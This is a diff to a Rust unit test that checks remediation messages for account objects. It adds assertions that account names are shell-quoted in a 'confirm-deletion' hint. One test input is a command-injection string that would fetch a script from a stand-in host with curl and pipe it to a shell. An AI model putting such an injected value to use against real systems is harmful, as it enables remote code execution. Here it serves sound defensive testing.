@@ -37,7 +37,10 @@ fn a_word_is_shown_as_it_is_written_and_filled_with_the_objects_own_words() {
     assert_eq!(format!("{}", Reason::TwinLive), "TwinLive");
     let message = Reason::DeletionProtected.message(WORDS);
     assert!(message.contains("kubectl patch sacc alice -n sales "), "{message}");
-    assert!(Reason::ConfirmationMissing.message(WORDS).ends_with("confirm-deletion=acc_1"));
+    let confirm = |account| Reason::ConfirmationMissing.message(Words { account, ..WORDS });
+    assert!(confirm("acc_1").ends_with("confirm-deletion=acc_1"));
+    assert!(confirm("x;curl${IFS}a.b|sh").ends_with("confirm-deletion='x;curl${IFS}a.b|sh'"));
+    assert!(confirm("it's").ends_with(r"confirm-deletion='it'\''s'"));
     assert!(Reason::HandedOver.message(WORDS).ends_with("handed over to sales/bob"));
     assert!(Reason::SecretForbidden.message(WORDS).contains("Secret workspace (to act"));
 }
